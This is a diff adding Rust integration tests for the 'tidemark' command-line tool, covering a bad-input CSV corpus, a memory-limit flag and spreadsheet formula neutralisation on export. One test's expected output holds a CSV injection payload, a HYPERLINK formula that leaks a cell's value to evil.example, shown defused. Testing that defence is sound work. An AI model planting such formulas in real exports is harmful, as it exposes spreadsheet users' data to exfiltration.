@@ -1,6 +1,8 @@
 //! The process boundary: the real `tidemark` binary, its JSON on stdout, and its
 //! `file:line: reason` errors on stderr with a non-zero exit.
 
+#[path = "common/bad.rs"]
+mod bad;
 mod common;
 
 use common::svg::texts;
@@ -551,4 +553,109 @@ fn run_tiers_bad_thresholds_errored() {
         ),
         "{e}"
     );
+}
+
+/// Checks the binary's `inspect` of `path` against a corpus outcome: the exact
+/// `file:line: reason` on stderr with exit code 1, or the exact skip tallies and
+/// `rows_read = rows + Σ skipped` in the JSON.
+fn check_inspect(path: &str, want: bad::Outcome) {
+    let out = tidemark(&["inspect", path]);
+    match want {
+        bad::Outcome::Refused(text) => {
+            assert_eq!(out.status.code(), Some(1), "{path}");
+            assert_eq!(stderr(&out), format!("{path}{text}"));
+        }
+        bad::Outcome::Loaded { rows, skipped } => {
+            let v = json(&out);
+            assert_eq!(v["rows"], rows, "{path}");
+            let got: Vec<(String, u64, Vec<u64>)> = v["skipped"]
+                .as_array()
+                .expect("skipped")
+                .iter()
+                .map(|s| {
+                    (
+                        s["reason"].as_str().expect("reason").to_string(),
+                        s["count"].as_u64().expect("count"),
+                        serde_json::from_value(s["lines"].clone()).expect("lines"),
+                    )
+                })
+                .collect();
+            let want: Vec<(String, u64, Vec<u64>)> = skipped
+                .iter()
+                .map(|(r, c, l)| (r.to_string(), *c, l.to_vec()))
+                .collect();
+            assert_eq!(got, want, "{path}");
+            let total: u64 = got.iter().map(|s| s.1).sum();
+            assert_eq!(v["rows_read"], rows + total, "{path}: rows_read");
+        }
+    }
+}
+
+#[test]
+fn inspect_the_bad_input_corpus() {
+    for (name, want) in bad::CORPUS {
+        check_inspect(&bad::path(name), *want);
+    }
+    let big = temp_file("big_field.csv", &bad::big_field());
+    let wide = temp_file("wide.csv", &bad::wide());
+    for f in [big, wide] {
+        check_inspect(
+            f.to_str().expect("path"),
+            bad::Outcome::Loaded {
+                rows: 3,
+                skipped: &[],
+            },
+        );
+    }
+}
+
+#[test]
+fn dropoff_export_neutralises_formula_cells() {
+    let spec = temp_file(
+        "formula_funnel.json",
+        br#"{"analysis":"funnel","steps":[{"event":"purchase"},{"event":"view"}],"window":"30d"}"#,
+    );
+    let out = tidemark(&[
+        "dropoff",
+        &bad::path("formula_injection.csv"),
+        "--spec",
+        spec.to_str().expect("path"),
+        "--step",
+        "1",
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // The one buyer never viewed after; the id is a formula, exported inert.
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "user\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\"\n"
+    );
+}
+
+#[test]
+fn max_memory_flag_refuses_a_load_that_would_not_fit() {
+    // The demo log (about 3.5 MB) needs more than 2 MB: refused after its first
+    // 256 KB with the numbers; with 100 MB it loads.
+    let csv = tidemark::demo::demo_csv();
+    let demo = temp_file("demo_mem.csv", csv.as_bytes());
+    let path = demo.to_str().expect("path");
+    let out = tidemark(&["inspect", path, "--max-memory-mb", "2"]);
+    assert_eq!(out.status.code(), Some(1));
+    let err = stderr(&out);
+    let mb = csv.len() as f64 / 1e6;
+    assert!(
+        err.starts_with(&format!(
+            "{path}: the file is too large to analyse here: its {mb:.1} MB would need about"
+        )) && err.ends_with(
+            "more than the limit of 2.0 MB; split it into smaller files (e.g. by date range)"
+        ),
+        "{err}"
+    );
+    let v = json(&tidemark(&["inspect", path, "--max-memory-mb", "100"]));
+    assert_eq!(v["rows"], v["rows_read"]);
+    let out = tidemark(&["inspect", path, "--max-memory-mb", "0"]);
+    assert_eq!(out.status.code(), Some(2), "clap refuses 0");
 }
